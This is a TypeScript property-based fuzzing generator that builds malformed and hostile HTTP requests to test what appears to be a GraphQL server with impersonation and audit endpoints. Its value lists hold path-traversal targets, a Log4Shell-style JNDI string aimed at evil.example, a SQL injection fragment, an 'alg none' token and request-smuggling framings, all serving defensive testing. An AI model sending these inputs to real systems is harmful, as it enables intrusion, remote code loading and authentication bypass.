import { brotliCompressSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { nearlyJson } from '../texts/json-text.js';
import { oddText } from '../texts/odd-text.js';

/** How what is sent is cut into requests: rightly, or in one of the ways that lead readers to cut it differently. */
export type Framing =
  | 'length'
  | 'chunked'
  | 'none'
  | 'too long'
  | 'too short'
  | 'both'
  | 'two lengths'
  | 'two equal lengths'
  | 'negative'
  | 'signed'
  | 'hex'
  | 'huge'
  | 'odd coding'
  | 'two codings'
  | 'bad chunk'
  | 'chunk extension'
  | 'trailers'
  | 'no last chunk';

/** A request as it is to be written. Texts are latin1, a character a byte; `{{name}}` stands for a token. */
export interface FuzzedRequest {
  readonly method: string;
  readonly target: string;
  readonly version: string;
  readonly headers: readonly (readonly [name: string, value: string])[];
  readonly body: string;
  readonly framing: Framing;
}

/** UTF-8 as latin1: a character for each byte. */
export function bytesOf(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1');
}

const QUERIES = [
  '{ viewer { id } actor { id } }',
  '{ __typename }',
  'query A { viewer { name } } query B { actor { id } }',
  'mutation { startImpersonation(input: {userId: "user_cleo", reason: "a test"}) { expiresAt session { id } } }',
  'mutation Stop($id: ID) { stopImpersonation(sessionId: $id) { viewer { id } } }',
  'subscription { impersonationEventRecorded { id type } }',
  'subscription S($f: ImpersonationEventFilter) { impersonationEventRecorded(filter: $f, after: "x") { id } }',
  '{ impersonationEvents(first: 3) { nodes { id type } } }',
  'query($s: String, $n: Int) { users(search: $s, first: $n) { nodes { id email } } }',
  '{ orders { id title cardLast4 } }',
  'mutation($p: String!) { changePassword(newPassword: $p) }',
  '{ __schema { types { name } } }',
  'query { viewer { ',
  '',
  '# nothing',
];

const PATHS = [
  '/graphql',
  '/graphql/stream',
  '/audit/export',
  '/healthz',
  '/readyz',
  '/metrics',
  '/.well-known/jwks.json',
  '/v1/jwks',
  '/console',
  '/console/',
  '/console/config.json',
  '/console/assets/app-a1B2_c3-.js',
  '/console/favicon.svg',
  '/console/audit/events',
  '/banner/impersonation-banner.js',
  '/dev/session',
  '/',
  '*',
];
const ODD_PATHS = [
  '/console/../secret.txt',
  '/console/%2e%2e/secret.txt',
  '/console/..%2fsecret.txt',
  '/console/.built',
  '/console//etc/passwd',
  '/console/assets/%00.js',
  '/console/__proto__',
  '/console/constructor',
  '//graphql',
  '/graphql/',
  '/GRAPHQL',
  '/graphql;a=b',
  '/graphql%2fstream',
  'http://evil.example/graphql',
  'http://127.0.0.1/healthz',
  'https://user:pass@127.0.0.1/graphql',
  '127.0.0.1:443',
  'graphql',
  '?query={__typename}',
  '/%',
  '/%ff%fe',
  '/\x80\xff',
  '/a b',
  '/\0',
  '/\x7f',
  `/${'a'.repeat(9_000)}`,
  `/console/${'../'.repeat(3_000)}`,
];

const encoded = (text: string) => encodeURIComponent(text.toWellFormed());
const NAMES = [
  ...['query', 'variables', 'operationName', 'extensions', 'documentId', 'token', 'operationId', 'format', 'types'],
  ...['actorId', 'occurredAfter', 'first', 'after', '__proto__', 'userId', 'outcome'],
];
const parameter = fc
  .tuple(
    fc.constantFrom(...NAMES),
    fc.oneof(
      fc.constantFrom(...QUERIES),
      fc.constantFrom(
        'ndjson',
        'csv',
        'ecs',
        '{}',
        '{"n":1}',
        '2026-01-31T12:00:00Z',
        'OPERATION_DENIED',
        'null',
        '[]',
        'x',
      ),
      fc.constantFrom(
        '{"persistedQuery":{"version":1,"sha256Hash":"00"}}',
        '{"persistedQuery":null}',
        '{"persistedQuery":7}',
      ),
      nearlyJson.filter((text) => text.length < 4_000),
      oddText,
    ),
  )
  .map(([name, value]) => `${name}=${encoded(value)}`);
const search = fc.oneof(
  { arbitrary: fc.constant(''), weight: 4 },
  { arbitrary: fc.array(parameter, { maxLength: 4 }).map((parts) => `?${parts.join('&')}`), weight: 4 },
  {
    arbitrary: fc.constantFrom('?', '?&&&', '?%', '?a=%ff', '?query', '?query=%00', `?${'a&'.repeat(3_000)}`),
    weight: 1,
  },
);

const target = fc
  .tuple(
    fc.oneof(
      { arbitrary: fc.constantFrom(...PATHS), weight: 6 },
      { arbitrary: fc.constantFrom(...ODD_PATHS), weight: 2 },
    ),
    search,
  )
  .map(([path, query]) => `${path}${query}`);

const method = fc.oneof(
  { arbitrary: fc.constantFrom('GET', 'POST'), weight: 12 },
  { arbitrary: fc.constantFrom('HEAD', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'), weight: 4 },
  {
    arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'PROPFIND', 'QUERY', 'get', 'FOO', '', 'PRI', 'G\0T', 'M-SEARCH'),
    weight: 1,
  },
);

/** Header values by name: what is right, and what has led readers astray. */
const VALUES: Readonly<Record<string, readonly string[]>> = {
  'Content-Type': [
    'application/json',
    'application/json; charset=utf-8',
    'application/json;charset="utf-8"',
    'application/json; charset=utf-16',
    'application/json, text/plain',
    'application/json\x80',
    'Application/JSON ; Charset=UTF-8',
    'application/graphql',
    'application/graphql+json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'multipart/form-data',
    'text/plain',
    'text/event-stream',
    '',
    ';;;',
    'a/b;'.repeat(500),
  ],
  Accept: [
    'application/json',
    'application/graphql-response+json',
    'text/event-stream',
    'text/html',
    '*/*',
    'application/json;q=0',
    'application/json;q=NaN, */*;q=-1',
    'application/json;q=1e999',
    'application/graphql-response+json;q=0.5, application/json;q=0.9;charset=latin1',
    'multipart/mixed;deferSpec=20220824, application/json',
    'multipart/mixed',
    'text/event-stream, text/html;q=0.1',
    ',,,;;q',
    'image/*',
    '\xff',
    'a/b,'.repeat(2_000),
  ],
  Authorization: [
    'Bearer {{ada}}',
    'Bearer {{cleo}}',
    'Bearer {{audrey}}',
    'Bearer {{impersonating}}',
    'Bearer {{impersonating}}',
    'bearer   {{ada}}',
    'Bearer {{ada}}, Bearer {{cleo}}',
    'Bearer {{ada}}x',
    'Bearer',
    'Bearer \xe9',
    'Basic dXNlcjpwYXNz',
    'DPoP {{ada}}',
    '{{ada}}',
    '',
    `Bearer ${'a'.repeat(20_000)}`,
    'Bearer eyJhbGciOiJub25lIn0.e30.AA',
  ],
  'Content-Encoding': ['gzip', 'br', 'deflate', 'identity', 'gzip, gzip', 'GZIP', '', 'x'],
  'Accept-Encoding': ['gzip', 'br;q=1, gzip;q=0.5', '*;q=0', 'identity;q=0', 'gzip;q=x', ',;', '\xff', '*'],
  Expect: ['100-continue', '100-Continue', '200-ok', 'x', ''],
  Upgrade: ['websocket', 'h2c', 'TLS/1.0', 'websocket, h2c', ''],
  Connection: ['close', 'keep-alive', 'Upgrade', 'upgrade, close', 'x', 'Authorization', ''],
  Origin: [
    'https://evil.example',
    'null',
    'http://localhost:5173',
    'http://127.0.0.1',
    'http://localhost:99999',
    '\xff',
    '',
  ],
  Host: ['127.0.0.1', 'evil.example', '', 'a, b', '\xff', '[::1', '127.0.0.1:x'],
  Cookie: ['a=b', '__Host-x={{ada}}', '=;=;', '\xff'],
  'X-Forwarded-For': [
    '203.0.113.9',
    '203.0.113.9, ::1',
    'unknown',
    ',,,',
    '\xff',
    "' OR 1=1",
    '::ffff:1.2.3.4%eth0',
    '1.2.3.4:80',
  ],
  'X-Forwarded-Proto': ['https', 'javascript'],
  'X-Forwarded-Host': ['evil.example'],
  Forwarded: ['for=1.2.3.4;host=evil.example'],
  'User-Agent': ['x'.repeat(5_000), '\xff\xfe', '$\x7bjndi:ldap://evil.example}', ''],
  Traceparent: ['00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', 'ff-x', ''],
  'Apollo-Require-Preflight': ['true', ''],
  'X-Apollo-Operation-Name': ['A'],
  'X-GraphQL-Event-Stream-Token': ['x', '', '00000000-0000-0000-0000-000000000000', '\xff', 'a, b'],
  'Access-Control-Request-Method': ['POST', 'x'],
  'Access-Control-Request-Headers': ['authorization', '\xff'],
  'If-None-Match': ['*', '"x"', 'W/"x",', '\xff'],
  Range: ['bytes=0-0', 'bytes=-1'],
  'Sec-Fetch-Mode': ['navigate', 'cors'],
  'Sec-WebSocket-Key': ['dGhlIHNhbXBsZSBub25jZQ==', 'x'],
  'Sec-WebSocket-Version': ['13', '8'],
  'Max-Forwards': ['0'],
  Trailer: ['Authorization'],
  TE: ['trailers, deflate;q=0.5'],
  'Transfer-Encoding': ['identity', 'gzip'],
  __proto__: ['x'],
  constructor: ['x'],
  'X-Http-Method-Override': ['DELETE'],
};

const header: fc.Arbitrary<readonly [string, string]> = fc.oneof(
  {
    arbitrary: fc
      .constantFrom(...Object.keys(VALUES))
      .chain((name) => fc.tuple(fc.constant(name), fc.constantFrom(...(VALUES[name] ?? [''])))),
    weight: 12,
  },
  {
    arbitrary: fc.tuple(fc.constantFrom('X-Any', 'x', 'a\0', 'a b', '', ':', '\xe9', 'X-Any '), oddText.map(bytesOf)),
    weight: 1,
  },
);

const many = fc.constantFrom(201, 2_500).map((often) => Array(often).fill(['x', 'y'] as const));
const huge = fc.constant([['X-Huge', 'x'.repeat(40_000)] as const]);
const headers = fc
  .tuple(
    fc.oneof(
      { arbitrary: fc.constant<readonly (readonly [string, string])[]>([['Host', '127.0.0.1']]), weight: 25 },
      { arbitrary: fc.constant([]), weight: 1 },
    ),
    fc.array(header, { maxLength: 6 }),
    fc.oneof(
      { arbitrary: fc.constant([]), weight: 25 },
      { arbitrary: many, weight: 1 },
      { arbitrary: huge, weight: 1 },
    ),
  )
  .map((parts) => parts.flat());

const graphqlBody = fc
  .tuple(
    fc.constantFrom(...QUERIES),
    fc.constantFrom<unknown>(undefined, null, {}, { id: 'x', p: 'y', s: 'c', n: 2 }, { s: 1, n: 'x' }, [], 'x', {
      f: { types: ['X'] },
    }),
    fc.constantFrom<unknown>(undefined, null, 'A', 'B', '', 7, '\ud800'),
    fc.constantFrom<unknown>(
      undefined,
      null,
      {},
      [],
      'x',
      { operationId: 'o' },
      { operationId: {} },
      { persistedQuery: { version: 1, sha256Hash: '0'.repeat(64) } },
    ),
  )
  .map(([query, variables, operationName, extensions]) =>
    JSON.stringify({ query, variables, operationName, extensions }),
  );

/** The members of a request, each of any shape. */
const anyMembers = fc
  .uniqueArray(
    fc.tuple(
      fc.constantFrom(
        'query',
        'variables',
        'operationName',
        'extensions',
        'documentId',
        'id',
        'userId',
        '__proto__',
        'http',
      ),
      nearlyJson,
    ),
    {
      selector: ([name]) => name,
      maxLength: 5,
    },
  )
  .map((members) => `{${members.map(([name, value]) => `"${name}":${value}`).join(',')}}`);

const multipart = [
  '--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"{__typename}"}\r\n--x--\r\n',
  '--x\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.file"]}\r\n',
  '--x--',
];

const textBody = fc.oneof(
  { arbitrary: graphqlBody, weight: 8 },
  { arbitrary: anyMembers, weight: 3 },
  { arbitrary: nearlyJson, weight: 2 },
  { arbitrary: fc.tuple(graphqlBody, graphqlBody).map((both) => `[${both.join(',')}]`), weight: 1 },
  { arbitrary: fc.constantFrom(...multipart), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      '{"userId":"user_ada"}',
      '{"userId":"user_nobody"}',
      '{"userId":[]}',
      '{"userId":"\\ud800"}',
    ),
    weight: 1,
  },
  { arbitrary: fc.constantFrom('', ' ', '\ufeff{}', `{"query":"${'x'.repeat(70_000)}"}`), weight: 1 },
);

const body: fc.Arbitrary<string> = fc
  .tuple(
    textBody.map(bytesOf),
    fc.constantFrom('as it is', 'as it is', 'as it is', 'as it is', 'gzip', 'br', 'cut gzip', 'bytes', 'utf-16'),
  )
  .map(([text, how]) => {
    const bytes = Buffer.from(text, 'latin1');
    if (how === 'gzip') return gzipSync(bytes).toString('latin1');
    if (how === 'br') return brotliCompressSync(bytes).toString('latin1');
    if (how === 'cut gzip') return gzipSync(bytes).subarray(0, 15).toString('latin1');
    if (how === 'bytes') return `${text.slice(0, 5)}\xff\xc0\x80\xed\xa0\x80${text.slice(5)}`;
    if (how === 'utf-16') return Buffer.from(text, 'utf16le').toString('latin1');
    return text;
  });

const framing: fc.Arbitrary<Framing> = fc.oneof(
  { arbitrary: fc.constantFrom<Framing>('length', 'chunked'), weight: 10 },
  {
    arbitrary: fc.constantFrom<Framing>(
      ...([
        'none',
        'too long',
        'too short',
        'both',
        'two lengths',
        'two equal lengths',
        'negative',
        'signed',
        'hex',
        'huge',
      ] as const),
      ...(['odd coding', 'two codings', 'bad chunk', 'chunk extension', 'trailers', 'no last chunk'] as const),
    ),
    weight: 3,
  },
);

const version = fc.oneof(
  { arbitrary: fc.constant('HTTP/1.1'), weight: 25 },
  {
    arbitrary: fc.constantFrom(
      'HTTP/1.0',
      'HTTP/0.9',
      'HTTP/2.0',
      'HTTP/9.9',
      'http/1.1',
      '',
      'HTTP/1.1 ',
      'ICE/1.0',
      'RTSP/1.0',
    ),
    weight: 1,
  },
);

/** Any request at all. */
const anyRequest: fc.Arbitrary<FuzzedRequest> = fc
  .record({ method, target, version, headers, body, framing })
  .map((request) => (request.method === 'POST' || request.framing !== 'length' ? request : { ...request, body: '' }));

/** One that gets past the first steps: what is odd about it is further in. */
const wellFormed: fc.Arbitrary<FuzzedRequest> = fc
  .record({
    method: fc.constantFrom('POST', 'POST', 'POST', 'GET', 'PUT', 'DELETE'),
    target: fc
      .tuple(
        fc.constantFrom('/graphql', '/graphql', '/graphql', '/graphql/stream', '/audit/export', '/dev/session'),
        search,
      )
      .map(([path, query]) => `${path}${query}`),
    version: fc.constant('HTTP/1.1'),
    headers: fc
      .tuple(
        fc.constantFrom('application/json', 'application/graphql-response+json', 'text/event-stream', '*/*'),
        fc.constantFrom(null, ...(VALUES.Authorization ?? []).slice(0, 5)),
        fc.array(header, { maxLength: 1 }),
      )
      .map(([accept, authorization, more]): FuzzedRequest['headers'] => [
        ['Host', '127.0.0.1'],
        ['Accept', accept],
        ['Content-Type', 'application/json'],
        ...(authorization === null ? [] : [['Authorization', authorization] as const]),
        ...more,
      ]),
    body: textBody.map(bytesOf),
    framing: fc.constantFrom<Framing>('length', 'length', 'length', 'chunked'),
  })
  .map((request) => (request.method === 'POST' ? request : { ...request, body: '' }));

export const fuzzedRequests: fc.Arbitrary<FuzzedRequest> = fc.oneof(
  { arbitrary: wellFormed, weight: 5 },
  { arbitrary: anyRequest, weight: 4 },
);

/** The bytes of a request, as latin1. */
export function written({ method, target, version, headers, body, framing }: FuzzedRequest): string {
  const lines = [`${method} ${target} ${version}`, ...headers.map(([name, value]) => `${name}: ${value}`)];
  const { fields, content } = framed(body, framing);
  return `${[...lines, ...fields].join('\r\n')}\r\n\r\n${content}`;
}

function framed(body: string, framing: Framing): { readonly fields: readonly string[]; readonly content: string } {
  const length = (value: number | string) => `Content-Length: ${value}`;
  const coding = (value: string) => `Transfer-Encoding: ${value}`;
  const half = Math.floor(body.length / 2);
  const chunk = (text: string, after = '') => (text === '' ? '' : `${text.length.toString(16)}${after}\r\n${text}\r\n`);
  const chunks = `${chunk(body.slice(0, half))}${chunk(body.slice(half))}`;
  switch (framing) {
    case 'length':
      return { fields: body === '' ? [] : [length(body.length)], content: body };
    case 'none':
      return { fields: [], content: body };
    case 'too long':
      return { fields: [length(body.length + 7)], content: body };
    case 'too short':
      return { fields: [length(Math.max(0, body.length - 7))], content: body };
    case 'both':
      return { fields: [length(body.length), coding('chunked')], content: `${chunks}0\r\n\r\n` };
    case 'two lengths':
      return { fields: [length(body.length), length(half)], content: body };
    case 'two equal lengths':
      return { fields: [length(body.length), length(body.length)], content: body };
    case 'negative':
      return { fields: [length(-1)], content: body };
    case 'signed':
      return { fields: [length(`+${body.length}`)], content: body };
    case 'hex':
      return { fields: [length(`0x${body.length.toString(16)}`)], content: body };
    case 'huge':
      return { fields: [length('99999999999999999999')], content: body };
    case 'odd coding':
      return { fields: [coding('xchunked')], content: `${chunks}0\r\n\r\n` };
    case 'two codings':
      return { fields: [coding('chunked'), coding('identity')], content: `${chunks}0\r\n\r\n` };
    case 'bad chunk':
      return { fields: [coding('chunked')], content: `${chunks}zz\r\n\r\n` };
    case 'chunk extension':
      return { fields: [coding('chunked')], content: `${chunk(body, `;${'a=b;'.repeat(50)}`)}0\r\n\r\n` };
    case 'trailers':
      return { fields: [coding('chunked')], content: `${chunks}0\r\nAuthorization: Bearer {{ada}}\r\nX: y\r\n\r\n` };
    case 'no last chunk':
      return { fields: [coding('chunked')], content: chunks };
    default:
      return { fields: [coding('chunked')], content: `${chunks}0\r\n\r\n` };
  }
}
